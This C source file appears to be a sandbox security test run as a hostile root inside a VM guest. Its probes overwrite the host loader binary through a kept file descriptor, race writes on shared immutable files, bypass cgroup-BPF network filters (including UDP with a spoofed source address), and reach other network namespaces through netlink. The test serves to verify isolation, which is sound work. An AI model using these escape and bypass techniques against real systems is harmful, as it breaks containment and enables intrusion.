/* What a hostile guest root tries from inside (tests/security); static, run in the guest. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/inotify.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/if_link.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static void note(const char *path, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void note(const char *path, const char *fmt, ...)
{
        va_list ap;
        FILE *f = fopen(path, "w");
        if (!f)
                return;
        va_start(ap, fmt);
        vfprintf(f, fmt, ap);
        va_end(ap);
        fclose(f);
}

/* Phase two of loader.c: reopen the kept descriptor of the binary for writing. */
static int overwrite(const char *fdstr)
{
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%s", fdstr);
        signal(SIGHUP, SIG_IGN); /* a login session's end must not take us with it */
        pid_t pid = fork();
        if (pid != 0) {
                if (getpid() == 1) /* as init: stay up, a guest's PID 1 ending ends it */
                        for (;;)
                                pause();
                return 0;
        }
        setsid();
        for (int i = 0; i < 30; i++) {
                int fd = open(path, O_WRONLY);
                if (fd < 0 && errno == ETXTBSY) {
                        usleep(100000);
                        continue;
                }
                if (fd < 0) {
                        note("/vs-out/overwrite", "REFUSED open %s", strerror(errno));
                        return 0;
                }
                if (pwrite(fd, "PWNED", 5, 0) == 5) {
                        note("/vs-out/overwrite", "WROTE");
                        return 0;
                }
                note("/vs-out/overwrite", "REFUSED write %s", strerror(errno));
                return 0;
        }
        note("/vs-out/overwrite", "BUSY");
        return 0;
}

/* Read the mountinfo of every new process for @secs seconds; print LEAK if @marker shows. */
static int scan_mountinfo(const char *marker, int secs)
{
        static char buf[1 << 16];
        time_t end = time(NULL) + secs;
        int leaks = 0, seen = 0;
        while (time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *de;
                while (d && (de = readdir(d))) {
                        if (de->d_name[0] < '0' || de->d_name[0] > '9')
                                continue;
                        char p[300];
                        snprintf(p, sizeof p, "/proc/%s/mountinfo", de->d_name);
                        int fd = open(p, O_RDONLY);
                        if (fd < 0)
                                continue;
                        ssize_t n = read(fd, buf, sizeof buf - 1);
                        close(fd);
                        if (n <= 0)
                                continue;
                        buf[n] = 0;
                        seen++;
                        if (strstr(buf, marker))
                                leaks++;
                }
                if (d)
                        closedir(d);
        }
        printf("%s %d\n", leaks ? "LEAK" : "CLEAN", seen);
        return 0;
}

/*
 * Watch every file in @dir for attribute changes (until @enough events) (a shared inode losing its
 * immutable flag) and try to open it for writing at once; @secs seconds.
 */
static int race_write(const char *dir, int secs, int enough)
{
        static char names[4096][64];
        int n = 0, in = inotify_init1(IN_NONBLOCK), events = 0;
        DIR *d = opendir(dir);
        struct dirent *de;
        int wd0 = -1;
        while (d && (de = readdir(d)) && n < 4096) {
                if (de->d_type != DT_REG || strlen(de->d_name) >= 64)
                        continue;
                char p[4200];
                snprintf(p, sizeof p, "%s/%s", dir, de->d_name);
                int wd = inotify_add_watch(in, p, IN_ATTRIB);
                if (wd < 0)
                        continue;
                if (wd0 < 0)
                        wd0 = wd;
                snprintf(names[wd - wd0], sizeof names[0], "%s", de->d_name);
                n++;
        }
        if (d)
                closedir(d);
        printf("WATCHING %d\n", n);
        fflush(stdout);
        time_t end = time(NULL) + secs;
        char buf[65536];
        while (time(NULL) < end && (enough <= 0 || events < enough)) {
                struct pollfd pfd = {.fd = in, .events = POLLIN};
                if (poll(&pfd, 1, 200) <= 0)
                        continue;
                ssize_t len = read(in, buf, sizeof buf);
                for (char *p = buf; len > 0 && p < buf + len;) {
                        struct inotify_event *ev = (struct inotify_event *)p;
                        p += sizeof *ev + ev->len;
                        int i = ev->wd - wd0;
                        if (i < 0 || i >= n)
                                continue;
                        events++;
                        char path[4200];
                        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
                        int fd = open(path, O_WRONLY);
                        if (fd >= 0) {
                                printf("WON %s\n", names[i]);
                                return 0;
                        }
                }
        }
        printf("LOST %d\n", events);
        return 0;
}

/* Isolate mode: the ways around the cgroup-BPF hooks the audit found (item 6). */
static int net(int argc, char **argv)
{
        const char *how = argv[2];
        int port = argc > 4 ? atoi(argv[4]) : 0;
        struct sockaddr_in s4 = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        struct sockaddr_in6 s6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
        int fd = -1;
        char buf[128];
        if (strcmp(how, "socket") == 0) { /* socket PROTO: sctp udplite dccp mptcp */
                int proto = strcmp(argv[3], "sctp") == 0      ? 132
                            : strcmp(argv[3], "udplite") == 0 ? 136
                            : strcmp(argv[3], "dccp") == 0    ? 33
                                                              : 262;
                int type = proto == 136 ? SOCK_DGRAM : proto == 33 ? SOCK_DCCP : SOCK_STREAM;
                fd = socket(AF_INET, type, proto);
                printf("%s\n", fd >= 0 ? "ok" : strerror(errno));
                return 0;
        }
        if (strcmp(how, "mapped") == 0) { /* mapped ADDR PORT: TCP over a v4-mapped address */
                fd = socket(AF_INET6, SOCK_STREAM, 0);
                snprintf(buf, sizeof buf, "::ffff:%s", argv[3]);
                inet_pton(AF_INET6, buf, &s6.sin6_addr);
                if (connect(fd, (struct sockaddr *)&s6, sizeof s6) < 0) {
                        printf("%s\n", strerror(errno));
                        return 0;
                }
                socklen_t l = sizeof s6;
                getsockname(fd, (struct sockaddr *)&s6, &l);
                inet_ntop(AF_INET6, &s6.sin6_addr, buf, sizeof buf);
                printf("from %s\n", buf);
                return 0;
        }
        if (strcmp(how, "v6") == 0) { /* v6 ADDR PORT */
                fd = socket(AF_INET6, SOCK_STREAM, 0);
                inet_pton(AF_INET6, argv[3], &s6.sin6_addr);
                int r = connect(fd, (struct sockaddr *)&s6, sizeof s6);
                printf("%s\n", r == 0 ? "connected" : strerror(errno));
                return 0;
        }
        if (strcmp(how, "pktinfo") == 0) { /* pktinfo DST PORT SRC: UDP with a source of our choice */
                fd = socket(AF_INET, SOCK_DGRAM, 0);
                inet_pton(AF_INET, argv[3], &s4.sin_addr);
                char cbuf[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
                struct iovec iov = {.iov_base = "spoofed", .iov_len = 7};
                struct msghdr mh = {.msg_name = &s4, .msg_namelen = sizeof s4, .msg_iov = &iov,
                                    .msg_iovlen = 1, .msg_control = cbuf,
                                    .msg_controllen = sizeof cbuf};
                struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
                c->cmsg_level = IPPROTO_IP;
                c->cmsg_type = IP_PKTINFO;
                c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
                struct in_pktinfo pi = {0};
                inet_pton(AF_INET, argv[5], &pi.ipi_spec_dst);
                memcpy(CMSG_DATA(c), &pi, sizeof pi);
                printf("%s\n", sendmsg(fd, &mh, 0) >= 0 ? "sent" : strerror(errno));
                return 0;
        }
        return 2;
}

/* Bind and close @n abstract names, one after another (item 7: the table must hold). */
static int unix_churn(int n)
{
        int done = 0;
        for (int i = 0; i < n; i++) {
                struct sockaddr_un sa = {.sun_family = AF_UNIX};
                int len = snprintf(sa.sun_path + 1, sizeof sa.sun_path - 1, "vs-churn-%d", i);
                int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
                if (fd < 0)
                        break;
                if (bind(fd, (struct sockaddr *)&sa,
                         (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) == 0)
                        done++;
                close(fd);
        }
        printf("bound %d\n", done);
        return 0;
}

static int sockets(void)
{
        int fams[] = {AF_VSOCK, AF_PACKET, AF_NETLINK, AF_INET, AF_INET6, AF_UNIX};
        const char *names[] = {"vsock", "packet", "netlink", "inet", "inet6", "unix"};
        for (size_t i = 0; i < sizeof fams / sizeof fams[0]; i++) {
                int type = fams[i] == AF_PACKET || fams[i] == AF_NETLINK ? SOCK_RAW : SOCK_STREAM;
                if (fams[i] == AF_VSOCK)
                        type = SOCK_STREAM;
                int s = socket(fams[i], type, 0);
                printf("%s %s\n", names[i], s >= 0 ? "ok" : strerror(errno));
                if (s >= 0)
                        close(s);
        }
        return 0;
}

/* One rtnetlink request about ifindex 1 in the namespace @nsid names; the answer's errno. */
static int nl_link(int s, int type, int nsid, unsigned *ret_mtu)
{
        struct {
                struct nlmsghdr nh;
                struct ifinfomsg ifi;
                char attrs[64];
        } req = {0};
        req.nh.nlmsg_type = (unsigned short)type;
        req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
        req.ifi.ifi_index = 1; /* lo */
        size_t off = NLMSG_LENGTH(sizeof req.ifi);
        struct rtattr *a = (struct rtattr *)((char *)&req + off);
        a->rta_type = IFLA_TARGET_NETNSID;
        a->rta_len = RTA_LENGTH(sizeof(int));
        memcpy(RTA_DATA(a), &nsid, sizeof nsid);
        off += RTA_ALIGN(a->rta_len);
        req.nh.nlmsg_len = (unsigned)off;
        if (send(s, &req, off, 0) < 0)
                return errno;
        for (;;) {
                char buf[8192];
                ssize_t n = recv(s, buf, sizeof buf, 0);
                if (n < 0)
                        return errno;
                for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (unsigned)n);
                     h = NLMSG_NEXT(h, n)) {
                        if (h->nlmsg_type == NLMSG_ERROR)
                                return -((struct nlmsgerr *)NLMSG_DATA(h))->error;
                        if (h->nlmsg_type != RTM_NEWLINK || !ret_mtu)
                                continue;
                        struct ifinfomsg *ifi = NLMSG_DATA(h);
                        int len = (int)IFLA_PAYLOAD(h);
                        for (struct rtattr *r = IFLA_RTA(ifi); RTA_OK(r, len); r = RTA_NEXT(r, len))
                                if (r->rta_type == IFLA_MTU)
                                        memcpy(ret_mtu, RTA_DATA(r), sizeof *ret_mtu);
                }
        }
}

/*
 * Item 3: reach another network namespace by the nsid our own gave it (a
 * veth peer's "link-netnsid"): IFLA_TARGET_NETNSID.  The kernel answers
 * only a holder of NET_ADMIN over that namespace, so reading its lo is the
 * proof, and harmless.  Prints "reached nsid N", or "error" with the answer.
 */
static int nsid_link(void)
{
        int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
        if (s < 0) {
                printf("error socket %s\n", strerror(errno));
                return 0;
        }
        int last = 0;
        for (int nsid = 0; nsid < 8; nsid++) {
                unsigned mtu = 0;
                int e = nl_link(s, RTM_GETLINK, nsid, &mtu);
                if (e == 0 && mtu) {
                        printf("reached nsid %d\n", nsid);
                        return 0;
                }
                if (getenv("VS_ATTACK_DEBUG"))
                        fprintf(stderr, "nsid %d: %s (mtu %u)\n", nsid, strerror(e), mtu);
                /* EINVAL: no namespace has that nsid; any other answer is the one */
                if (e != EINVAL || !last)
                        last = e ? e : EIO;
        }
        printf("error %s\n", strerror(last));
        return 0;
}

int main(int argc, char **argv)
{
        if (argc >= 2 && strcmp(argv[1], "nsid-link") == 0)
                return nsid_link();
        if (argc >= 3 && strcmp(argv[1], "overwrite") == 0)
                return overwrite(argv[2]);
        if (argc >= 4 && strcmp(argv[1], "scan-mountinfo") == 0)
                return scan_mountinfo(argv[2], atoi(argv[3]));
        if (argc >= 4 && strcmp(argv[1], "race-write") == 0)
                return race_write(argv[2], atoi(argv[3]), argc > 4 ? atoi(argv[4]) : 0);
        if (argc >= 4 && strcmp(argv[1], "net") == 0)
                return net(argc, argv);
        if (argc >= 3 && strcmp(argv[1], "unix-churn") == 0)
                return unix_churn(atoi(argv[2]));
        if (argc >= 2 && strcmp(argv[1], "keyctl") == 0) { /* in the default deny list, no cap needed */
                long r = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
                printf("%s\n", r >= 0 ? "ok" : strerror(errno));
                return 0;
        }
        if (argc >= 2 && strcmp(argv[1], "sockets") == 0)
                return sockets();
        if (argc >= 5 && strcmp(argv[1], "setxattr") == 0) { /* PATH NAME VALUE */
                int r = lsetxattr(argv[2], argv[3], argv[4], strlen(argv[4]), 0);
                printf("%s\n", r == 0 ? "ok" : strerror(errno));
                return 0;
        }
        fprintf(stderr, "usage: vs-attack overwrite FD | scan-mountinfo MARKER SECS | sockets | "
                        "setxattr PATH NAME VALUE\n");
        return 2;
}
